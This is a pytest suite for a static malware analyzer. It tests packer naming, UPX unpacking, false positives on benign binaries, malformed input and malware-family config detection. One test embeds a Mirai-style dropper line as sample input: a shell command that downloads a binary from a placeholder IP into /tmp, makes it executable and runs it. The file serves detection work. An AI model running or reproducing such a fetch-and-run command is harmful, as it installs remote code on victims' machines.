"""The whole static pipeline on real files: packers named, UPX unpacked, bad input survived."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from cleancenter.analyze.pipeline import StaticAnalyzer
from tests.material import clamav_packed, libwine_pe, wheel_pe

# The packer each of Debian's clamav-testfiles is packed with. clam-fsg.exe is the
# exception: in Debian's package it is NOT packed (ordinary compiler code at its entry
# point in .text, a plain clam.exe embedded in a .clamav section, no FSG stub or
# decompression loop anywhere in the file), so the honest answer is "not packed".
CLAMAV_PACKERS = {
    "upx": "UPX", "aspack": "ASPack", "mew": "MEW", "nsis": "NSIS", "pespin": "PESpin",
    "petite": "PEtite", "upack": "Upack", "wwpack": "WWPack32", "yc": "yC", "fsg": None,
    "none": None,
}


@pytest.fixture(scope="module")
def analyzer(tmp_path_factory: pytest.TempPathFactory) -> StaticAnalyzer:
    return StaticAnalyzer(workdir=tmp_path_factory.mktemp("unpack"))


def test_clamav_packers_are_named(analyzer: StaticAnalyzer) -> None:
    files = clamav_packed()
    assert set(files) == set(CLAMAV_PACKERS)
    named = {}
    for key, path in files.items():
        report = analyzer.analyze(path.read_bytes(), name=path.name).report
        named[key] = report.packer.name if report.packer.packed else None
        if report.packer.packed:
            assert report.packer.evidence, key
    assert named == CLAMAV_PACKERS


def test_benign_pe_corpus_is_not_packed(analyzer: StaticAnalyzer) -> None:
    files = libwine_pe() + wheel_pe()
    assert len(files) > 300
    packed = []
    for path in files:
        report = analyzer.analyze(path.read_bytes(), name=path.name).report
        assert report.identity.kind == "pe", path
        assert report.verdict.value != "malicious", path
        if report.packer.packed:
            packed.append((path.name, report.packer.name, report.packer.evidence))
    assert len(packed) <= len(files) // 100, packed


def test_benign_elf_programs_are_not_packed(analyzer: StaticAnalyzer) -> None:
    files = [p for p in sorted(Path("/usr/bin").iterdir())
             if p.is_file() and not p.is_symlink() and p.stat().st_size < 4_000_000][:150]
    elves = []
    for path in files:
        data = path.read_bytes()
        if not data.startswith(b"\x7fELF"):
            continue
        report = analyzer.analyze(data, name=path.name).report
        elves.append((path.name, report.packer.packed))
    assert len(elves) > 50
    assert [name for name, packed in elves if packed] == []


@pytest.mark.skipif(shutil.which("upx") is None, reason="upx is not installed")
def test_upx_round_trip_gives_back_the_original(analyzer: StaticAnalyzer, tmp_path: Path
                                                ) -> None:
    import subprocess

    original = Path(shutil.which("gzip") or "/usr/bin/gzip").resolve()
    packed = tmp_path / "gzip.upx"
    subprocess.run(["upx", "-q", "-q", "-o", str(packed), str(original)], check=True)
    outcome = analyzer.analyze(packed.read_bytes(), name="gzip.upx")
    report = outcome.report
    assert report.packer.name == "UPX" and report.packer.confidence == "high"
    assert [c.relation for c in outcome.children] == ["unpacked"]
    child = analyzer.analyze(outcome.children[0].data, name="gzip").report
    plain = analyzer.analyze(original.read_bytes(), name="gzip").report
    assert child.hashes.sha256 == plain.hashes.sha256
    assert child.elf is not None and plain.elf is not None
    assert [s.name for s in child.elf.sections] == [s.name for s in plain.elf.sections]
    assert child.elf.needed == plain.elf.needed
    assert not child.packer.packed


def real_pe() -> bytes:
    from cleancenter.demo import windows_launchers

    launchers = windows_launchers()
    if not launchers:
        pytest.skip("no pip/setuptools launchers here")
    return launchers[0].read_bytes()


def _past_the_end(data: bytes) -> bytes:
    import struct

    e_lfanew = struct.unpack_from("<I", data, 0x3C)[0]
    opt_size = struct.unpack_from("<H", data, e_lfanew + 20)[0]
    first_section = e_lfanew + 24 + opt_size
    patched = bytearray(data)
    struct.pack_into("<I", patched, first_section + 20, len(data) * 4)  # PointerToRawData
    return bytes(patched)


@pytest.mark.parametrize("case", ["truncated", "past-the-end", "empty", "random", "mz-only"])
def test_bad_input_ends_in_a_report(analyzer: StaticAnalyzer, case: str) -> None:
    pe = real_pe()
    data = {
        "truncated": pe[:1024],
        "past-the-end": _past_the_end(pe),
        "empty": b"",
        "random": os.urandom(100_000),
        "mz-only": b"MZ" + os.urandom(300),
    }[case]
    report = analyzer.analyze(data, name=case).report
    assert report.hashes.size == len(data)
    assert report.verdict.value in ("unknown", "suspicious")
    if case == "past-the-end":
        assert report.pe is not None
        assert any(a.startswith("section-beyond-eof") for a in report.pe.anomalies)
    if case == "empty":
        assert report.identity.kind == "empty" and report.errors == []


def test_a_200_mb_file_is_analyzed_within_limits(analyzer: StaticAnalyzer) -> None:
    data = os.urandom(1 << 20) * 200
    report = analyzer.analyze(data, name="big.bin").report
    assert report.hashes.size == 200 << 20
    assert report.identity.kind == "data"
    assert report.timings_ms["total"] < 120_000


def test_configs_reach_the_report_family_and_verdict(analyzer: StaticAnalyzer) -> None:
    from tests.analyze.test_configs import irc_blob, mirai_blob

    for blob, family in ((mirai_blob(), "Mirai"), (irc_blob(), "IRCBot")):
        report = analyzer.analyze(blob, name="bot").report
        assert [c.family for c in report.configs] == [family]
        assert report.family is not None and report.family.name == family
        assert report.family.source == "config"
        assert report.verdict.value == "malicious"
        assert any(r.kind == "config" for r in report.verdict.reasons)
    dropper = b"#!/bin/sh\ncd /tmp; wget http://198.51.100.7/bins/x86; chmod 777 x86; ./x86\n"
    report = analyzer.analyze(dropper, name="drop.sh").report
    assert [c.family for c in report.configs] == ["Downloader"]
    assert report.verdict.value == "suspicious"  # a fetch-and-run line alone does not convict


@pytest.fixture(scope="session")
def community_rules(corpus: Path) -> object:
    """All three community packs, merged, compiled once into a cache that outlives runs."""
    from cleancenter.analyze.yara_rules import RuleSet, load_pack

    cache = Path(os.environ.get("CLEANCENTER_TEST_RULES_CACHE",
                                "/var/cache/cleancenter/test-rules-cache"))
    cache.mkdir(parents=True, exist_ok=True)
    packs = [load_pack(name, corpus / "yara" / name, cache)
             for name in ("reversinglabs", "elastic", "signature-base")]
    assert all(not p.broken for p in packs)
    return RuleSet(packs, cache_dir=cache)


def test_no_malicious_verdict_on_the_benign_corpus_with_community_rules(
        community_rules: object, tmp_path: Path) -> None:
    from tests.material import busybox_elfs

    analyzer = StaticAnalyzer(scanner=community_rules, workdir=tmp_path)  # type: ignore[arg-type]
    files = libwine_pe() + wheel_pe() + list(busybox_elfs().values())
    files += [p for p in sorted(Path("/usr/bin").iterdir())
              if p.is_file() and not p.is_symlink() and p.stat().st_size < 4_000_000][:100]
    verdicts: dict[str, list[str]] = {}
    for path in files:
        report = analyzer.analyze(path.read_bytes(), name=path.name).report
        verdicts.setdefault(report.verdict.value, []).append(path.name)
        assert report.verdict.value != "malicious", (
            path, [r.detail for r in report.verdict.reasons])
    assert len(files) > 800
    assert sum(len(v) for v in verdicts.values()) == len(files)
